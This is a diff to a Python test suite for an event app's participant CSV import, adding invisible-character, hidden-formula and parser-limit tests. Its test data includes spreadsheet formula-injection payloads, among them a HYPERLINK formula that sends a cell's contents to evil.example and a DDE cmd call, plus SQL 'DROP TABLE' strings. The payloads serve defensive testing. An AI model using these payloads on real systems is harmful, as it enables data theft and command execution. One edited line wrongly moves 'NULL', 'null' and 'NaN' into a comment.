@@ -10,6 +10,7 @@ from __future__ import annotations
 import codecs
 import csv
 import io
+import unicodedata
 import uuid
 from collections import Counter
 from collections.abc import Iterator
@@ -32,14 +33,22 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE_TEXT = (
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
     "'; DROP TABLE participants; --", "Robert'); DROP TABLE students;--", "%", "_", "%_%", "\\", "\\\\'",
-    "\"quoted\" name", "O'Brien", "Ωμέγα Ünïcødé 😀", "‮reversed", "a,b;c\td", "NULL", "null", "NaN",
+    "\"quoted\" name", "O'Brien", "Ωμέγα Ünïcødé 😀", "a,b;c\td",
+    "می\u200cخواهم", "👩\u200d💻 Dev",  # joiners inside a word: Persian, emoji sequences "NULL", "null", "NaN",
 )
+# Formulas behind characters a spreadsheet may trim on import (issue 9, item 5).
+HIDDEN_FORMULAS = (" =1+1", "\ufeff=HYPERLINK(\"http://evil.example\")", "\u200b=cmd|' /C calc'!A0",
+                   "\u00a0+1+1", " \t-2+3", "\u2060\u202e@SUM(A1:A9)", "\r\n=1")
 ERROR_WORDS = {  # the kind of defect -> a word its message must contain
     "empty_name": "name is missing", "long_name": "longer than 300", "unknown_track": "unknown track",
     "retired_track": "deactivated", "twin": "also appears on line", "existing": "already a participant",
     "bad_flag": "not yes or no", "extra_cells": "cells but the header has", "bad_email": "not an e-mail",
-    "control": "control characters",
+    "control": "control characters", "invisible_name": "invisible or control characters",
+    "invisible_email": "e-mail contains invisible",
 }
+# Invisible and bidirectional characters (issue 9, item 11): refused wherever they are in a cell.
+INVISIBLE = ("\u200b", "\u202e", "\u202d", "\u2066", "\u2069", "\ufeff", "\u00ad", "\u2060", "\u061c",
+             "\U000e0041", "\ue000")
 cases: Counter[str] = Counter()
 
 
@@ -98,7 +107,7 @@ def _normal(name: str) -> str:
 
 
 # Text a person could type, without control characters (those are a defect of their own).
-plain_text = st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=40)
+plain_text = st.text(st.characters(exclude_categories=("Cc", "Cs", "Cf", "Co", "Cn", "Zl", "Zp")), max_size=40)
 good_names = st.one_of(st.sampled_from(HOSTILE_TEXT), plain_text).filter(
     lambda name: 0 < len(_normal(name)) <= 300)
 formats = st.sampled_from([("utf-8", ","), ("utf-8-sig", ","), ("utf-8", ";"), ("utf-8-sig", ";"),
@@ -130,6 +139,11 @@ def _row(kind: str, name: str, index: int, company: str, existing_email: str) ->
             email = "not an address"
         case "control":
             company = "ACME\x00" if index % 2 else "Bell\x07Corp"
+        case "invisible_name":
+            hidden = INVISIBLE[index % len(INVISIBLE)]
+            name = [f"Ana{hidden}Maria", f"{hidden}Eve", f"Mallory {hidden}", "\u200dJoiner at the edge"][index % 4]
+        case "invisible_email":
+            email = f"p{index}{INVISIBLE[index % len(INVISIBLE)]}@ok.example" if index % 2 else f"p{index}@o\u200dk.example"
     return [name, email, company, tracks, vip, *extra]
 
 
@@ -239,6 +253,82 @@ def test_an_upload_over_the_limit_is_refused_before_it_is_parsed(hostile):
     assert preview.ok and len(preview.rows) == 5243
 
 
+FIVE_MB = 5 * 1024 * 1024
+# A bound on waiting for a parse that never ends (the quadratic header check took hours on 5 MB),
+# not a timing assertion: a linear parse takes well under a second here.
+HANG_LIMIT_SECONDS = 120
+
+
+def _parse_within_bound(data: bytes, context: participants.ImportContext) -> participants.ImportPreview:
+    import threading
+
+    result: list[participants.ImportPreview] = []
+    worker = threading.Thread(target=lambda: result.append(participants.parse_participants_csv(data, context, 5)),
+                              daemon=True)
+    worker.start()
+    worker.join(HANG_LIMIT_SECONDS)
+    assert result, f"parsing {len(data):,} bytes did not finish within {HANG_LIMIT_SECONDS} s"
+    return result[0]
+
+
+@pytest.mark.parametrize(("column", "message"), [
+    ("email", "Columns given more than once (counting synonyms): email."),
+    ("shoe size", "Unknown columns: shoe_size. Allowed: "),
+])
+def test_a_header_of_megabytes_of_repeated_columns_is_refused_in_linear_time(hostile, column, message):
+    header = ("name," + ",".join([column] * (FIVE_MB // (len(column) + 1) - 10))).encode()
+    assert len(header) <= FIVE_MB
+    preview = _parse_within_bound(header + b"\nAda\n", _context(hostile))
+    assert preview.file_error.startswith(message)
+    assert len(preview.file_error) < 300  # every column named once
+    assert preview.rows.empty
+
+
+def test_a_file_of_millions_of_tiny_rows_is_refused_with_the_row_limit(hostile):
+    tiny_rows = b"name\n" + b"a\n" * ((FIVE_MB - 5) // 2)
+    preview = _parse_within_bound(tiny_rows, _context(hostile))
+    assert preview.file_error == ("The file has more than 20,000 participants; an import takes up to 20,000 "
+                                  "participants. Split it into smaller files.")
+    assert preview.rows.empty and not preview.ok  # so the page offers no Import button
+    blank_lines = b"name\n" + b"\n" * (FIVE_MB - 5)
+    assert "more than 100,000 lines" in _parse_within_bound(blank_lines, _context(hostile)).file_error
+    at_the_cap = b"name\n" + b"".join(b"P%d\n" % i for i in range(participants.MAX_IMPORT_ROWS))
+    preview = _parse_within_bound(at_the_cap, _context(hostile))
+    assert preview.ok and len(preview.rows) == participants.MAX_IMPORT_ROWS
+
+
+def test_an_upload_is_parsed_once_across_reruns(hostile, monkeypatch):
+    parsed: list[bytes] = []
+    real = participants.parse_participants_csv
+
+    def counting(data, context, limit_mb):
+        parsed.append(data)
+        return real(data, context, limit_mb)
+
+    monkeypatch.setattr(participants, "parse_participants_csv", counting)
+    store: dict = {}
+    context = _context(hostile)
+    first = participants.parse_upload_once(store, b"name\nAda\n", context, 5)
+    for _ in range(3):  # reruns of the page: the same file
+        assert participants.parse_upload_once(store, b"name\nAda\n", _context(hostile), 5) is first
+    other = participants.parse_upload_once(store, b"name\nGrace\n", context, 5)
+    assert list(other.rows["name"]) == ["Grace"]
+    assert len(parsed) == 2
+    with pytest.raises(participants.UploadTooLarge):
+        participants.parse_upload_once(store, b"x" * (FIVE_MB + 1), context, 5)
+
+
+def test_streamlit_refuses_uploads_over_the_apps_limit_and_offers_no_raw_table_export():
+    import tomllib
+    from pathlib import Path
+
+    from eventflow.config import Settings
+
+    config = tomllib.loads((Path(__file__).resolve().parent.parent / ".streamlit" / "config.toml").read_text())
+    assert config["server"]["maxUploadSize"] == Settings.from_environment().upload_limit_mb == 5
+    assert config["client"]["disableDataExport"] is True
+
+
 def test_a_giant_cell_is_a_clear_error(hostile):
     preview = participants.parse_participants_csv(b"name,company\nAda," + b"x" * 200_000 + b"\n",
                                                   _context(hostile), 1)
@@ -253,8 +343,13 @@ def _exported_cells(data: bytes) -> list[str]:
 
 
 def _assert_inert(data: bytes) -> None:
-    dangerous = [cell for cell in _exported_cells(data) if cell.startswith(FORMULA_START)]
+    dangerous = [cell for cell in _exported_cells(data)
+                 if cell.startswith(FORMULA_START) or _first_visible(cell).startswith(FORMULA_START)]
     assert not dangerous, dangerous
+
+
+def _first_visible(cell: str) -> str:
+    return "".join(ch for ch in cell if not (ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf", "Zs")))
 
 
 @PROPERTY
@@ -282,7 +377,8 @@ def test_hostile_names_are_stored_verbatim_and_every_export_is_inert(hostile, na
 
 
 @PROPERTY
-@given(values=st.lists(st.one_of(st.sampled_from(HOSTILE_TEXT), plain_text, st.integers(0, 10**6)),
+@given(values=st.lists(st.one_of(st.sampled_from(HOSTILE_TEXT + HIDDEN_FORMULAS), plain_text,
+                                 st.integers(0, 10**6)),
                        min_size=1, max_size=6))
 def test_to_safe_csv_neutralises_any_text_cell(values):
     frame = pd.DataFrame({"value": pd.Series(values, dtype=object),
@@ -401,3 +497,41 @@ def test_sql_in_names_and_track_names_is_only_text(hostile):
                                  "to_regclass('tracks') IS NOT NULL")).scalar_one()
     after = _counts(hostile)
     assert after == {**before, "participants": before["participants"] + 1, "tracks": before["tracks"] + 1}
+
+
+# ------------------------------------------- invisible characters in every form that takes a name
+
+@pytest.mark.parametrize("hidden", INVISIBLE)
+def test_invisible_characters_are_refused_by_every_form_and_nothing_is_written(hostile, hidden):
+    from eventflow import autoseat
+
+    org = hostile.org
+    before = _counts(hostile)
+    with hostile.database.tenant_session(org.owner) as session:
+        with pytest.raises(events.EventInputError, match="invisible or control characters"):
+            events.add_track(session, org.event_id, f"Da{hidden}ta")
+        with pytest.raises(events.EventInputError, match="invisible or control characters"):
+            events.rename_track(session, org.event_id, org.track_ids[0], f"Cloud{hidden}")
+        with pytest.raises(events.EventInputError, match="The event name contains invisible"):
+            events.update_event_details(session, org.event_id, f"Summit {hidden}2026", None, None, None)
+        with pytest.raises(events.EventInputError, match="The venue contains invisible"):
+            events.update_event_details(session, org.event_id, "Summit", None, None, f"Hall{hidden} A")
+        with pytest.raises(tables.TableInputError, match="invisible or control characters"):
+            tables.add_tables(session, org.event_id, first_number=70, count=1, capacity=4, label=f"VIP{hidden}")
+        with pytest.raises(autoseat.AutoSeatError, match="invisible or control characters"):
+            autoseat.add_rule(session, org.event_id, "apart", org.participant_ids[:2], f"note {hidden}x")
+    assert _counts(hostile) == before
+    snapshot = pd.DataFrame([{"table_number": 1, "label": None, "capacity": 4, "is_vip_table": False,
+                              "accessible": False, "seated": 0, "version": 1}])
+    _, problems = tables.table_changes_from_editor(snapshot, {"edited_rows": {0: {"label": f"A{hidden}B"}}})
+    assert "invisible or control characters" in problems[1][0]
+
+
+def test_joiners_inside_a_word_are_kept_and_reported_at_the_edges():
+    from eventflow import text_rules
+
+    assert text_rules.problem("می\u200cخواهم", "name") is None        # Persian needs the non-joiner
+    assert text_rules.problem("👩\u200d💻", "name") is None           # an emoji sequence
+    assert "U+200D zero width joiner" in text_rules.problem("Eve\u200d", "name")
+    assert "U+200C" in text_rules.problem("a\u200cb@example.org", "e-mail", email=True)  # never in an e-mail
+    assert "U+202E right-to-left override" in text_rules.problem("\u202eevil", "name")
